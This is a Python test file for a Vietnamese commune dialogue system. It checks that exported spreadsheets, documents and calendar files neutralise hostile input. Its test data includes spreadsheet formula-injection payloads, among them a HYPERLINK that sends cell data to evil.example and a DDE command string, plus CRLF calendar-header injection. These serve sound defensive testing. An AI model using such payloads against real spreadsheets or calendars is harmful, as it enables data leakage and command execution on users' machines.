"""What leaves the system is inert: spreadsheet cells are text, calendar fields cannot add lines, documents take
any stored text, and what residents type is stored without characters a database or a document cannot hold."""
from __future__ import annotations

import io
from datetime import date, datetime, timezone

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from handlers.commune.kinds import unit_words
from handlers.conclusions.document_words import signature
from handlers.conclusions.official_docs import Heading, Section, minutes, notice
from handlers.conclusions.session_report import Row, workbook
from handlers.sessions.calendar import session_ics
from storage.models import Question
from tests.fixtures import Chat, add_commune, make_deps, register, start_question

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84912345678", "-2+3", "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "\t=1+1", "Tên\x0bcó\x00ký tự\x1blạ"]


def test_every_cell_from_user_text_is_text_never_a_formula():
    rows = [Row(code=f"TT-{i:04d}", village=value, topic=value, state="Mới", department=value, due_on=None,
                done_on=None, satisfaction=None, asker=value, phone="+84912345678")
            for i, value in enumerate(HOSTILE, start=1)]
    sheet = load_workbook(io.BytesIO(workbook("=1+1 Đối thoại", rows, date(2026, 11, 23), personal=True))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert sheet["A1"].value == "=1+1 Đối thoại"
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    assert [row[1] for row in values][:-1] == HOSTILE[:-1]  # the text survives as typed
    assert values[-1][1] == "Têncóký tựlạ" and values[0][9] == HOSTILE[0]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str))  # stays text when a person edits it


def test_documents_take_stored_text_with_control_characters():
    head = Heading("Thiện\x0b Tân", unit_words("xa"), "TB-UBND", 1, date(2026, 12, 2))
    sections = [Section("1. Ý kiến\x0c kết luận chung", ("Kết luận\x0b có ký tự lạ\x07", "TT-0001: đã trả lời\x0c"))]
    for content in (notice(head, "Hội nghị\x0b đối thoại", "Mở\x00 đầu", sections, "Kết thúc./.",
                           signature("chair", "Chủ\x1b Tịch"), ["Lưu\x01: VT."]),
                    minutes(head, "Hội nghị\x0b đối thoại", ["Ý kiến\x02 của dân"], "Thư Ký", "Chủ\x1b Tịch")):
        text = "\n".join(p.text for p in Document(io.BytesIO(content)).paragraphs)
        assert "có ký tự lạ" in text or "Ý kiến của dân" in text


def test_a_calendar_field_cannot_start_a_line_of_its_own():
    ics = session_ics(uid="session-1@doithoai", title="Đối thoại\r\nATTENDEE:mailto:x@evil",
                      starts_at=datetime(2026, 12, 1, 1, tzinfo=timezone.utc),
                      venue="Hội trường\rORGANIZER:mailto:y@evil", description="a\nb;c,d\\e\x00",
                      now=datetime(2026, 11, 23, tzinfo=timezone.utc)).decode("utf-8")
    unfolded = ics.replace("\r\n ", "")
    lines = unfolded.split("\r\n")
    assert not any(line.startswith(("ATTENDEE", "ORGANIZER")) for line in lines)
    assert "\r" not in "".join(lines) and "\n" not in "".join(lines) and "\x00" not in ics
    assert "DESCRIPTION:a\\nb\\;c\\,d\\\\e" in lines


@pytest.mark.usefixtures("channel")
async def test_control_characters_and_broken_unicode_in_a_question_are_dropped_not_fatal(db):
    await add_commune(db)
    chat = Chat(await make_deps(db), "9001")
    await register(chat)
    await start_question(chat)
    review = await chat.send("Câu\x00 hỏi\x0b có \ud800ký tự\r\nlạ\rnữa")
    assert "check your question" in review
    assert "TT-0001" in await chat.press("Send")
    async with db.unit_of_work() as uow:
        assert await uow.session.scalar(select(Question.text)) == "Câu hỏi có ký tự\nlạ\nnữa"
